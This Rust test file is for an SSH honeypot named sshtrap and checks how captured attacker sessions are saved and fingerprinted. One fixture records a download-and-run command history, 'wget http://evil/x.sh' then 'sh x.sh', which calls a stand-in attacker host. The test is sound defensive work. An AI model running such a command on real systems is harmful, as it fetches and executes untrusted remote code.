mod fixtures;

use chrono::Local;
use fixtures::*;
use rstest::*;
use sshtrap::corpus::{Corpus, ShellStats};
use sshtrap::util::sha1_hex;
use std::fs;
use std::os::unix::fs::PermissionsExt;

fn stats(host: &str, commands: &[&str]) -> ShellStats {
    ShellStats {
        user: "root".to_string(),
        host: host.to_string(),
        created: Local::now(),
        commands_executed: commands.len() as u64,
        time_spent: 42,
        command_history: commands.iter().map(|s| s.to_string()).collect(),
    }
}

#[rstest]
fn test_capture_file_name_and_content(trap: TrapFixture) {
    let captures = &trap.state.config.path_captures;
    let attack = stats("10.0.0.1", &["wget http://evil/x.sh", "sh x.sh"]);

    trap.state
        .with_corpus(|corpus| corpus.save_capture(captures, &attack));

    let sha1 = sha1_hex("wget http://evil/x.sh\nsh x.sh");
    let path = captures.join(format!("ocap-10.0.0.1-{}.sh", sha1));
    assert!(path.is_file());

    let content = fs::read_to_string(&path).unwrap();
    assert!(content.contains("root@10.0.0.1"));
    assert!(content.contains("wget http://evil/x.sh\nsh x.sh"));

    let mode = fs::metadata(&path).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o744);

    trap.state.with_corpus(|corpus| {
        assert!(corpus.has_fingerprint(&sha1));
    });
}

/* Saving the same attack twice writes one file and counts one
 * fingerprint. */
#[rstest]
fn test_capture_is_idempotent(trap: TrapFixture) {
    let captures = &trap.state.config.path_captures;
    let attack = stats("10.0.0.1", &["uname -a", "exit"]);
    let sha1 = sha1_hex("uname -a\nexit");

    trap.state.with_corpus(|corpus| {
        corpus.save_capture(captures, &attack);
        corpus.save_capture(captures, &attack);
        assert_eq!(corpus.fingerprints.get(&sha1).copied(), Some(1));
    });

    let files: Vec<_> = fs::read_dir(captures).unwrap().collect();
    assert_eq!(files.len(), 1);

    // same commands from another host are a different capture file
    let elsewhere = stats("10.0.0.2", &["uname -a", "exit"]);
    trap.state
        .with_corpus(|corpus| corpus.save_capture(captures, &elsewhere));
    let files: Vec<_> = fs::read_dir(captures).unwrap().collect();
    assert_eq!(files.len(), 2);
}

#[rstest]
fn test_distinct_histories_distinct_fingerprints(trap: TrapFixture) {
    let captures = &trap.state.config.path_captures;

    trap.state.with_corpus(|corpus| {
        corpus.save_capture(captures, &stats("10.0.0.1", &["ls"]));
        corpus.save_capture(captures, &stats("10.0.0.1", &["ls", "pwd"]));
        assert_eq!(corpus.fingerprints.len(), 2);
    });
}

#[rstest]
fn test_capture_write_failure_is_swallowed() {
    let mut corpus = Corpus::new();
    let missing = std::path::PathBuf::from("/nonexistent-captures-dir");

    // logs and moves on; the fingerprint still enters the corpus
    corpus.save_capture(&missing, &stats("10.0.0.1", &["ls"]));
    assert_eq!(corpus.fingerprints.len(), 1);
}
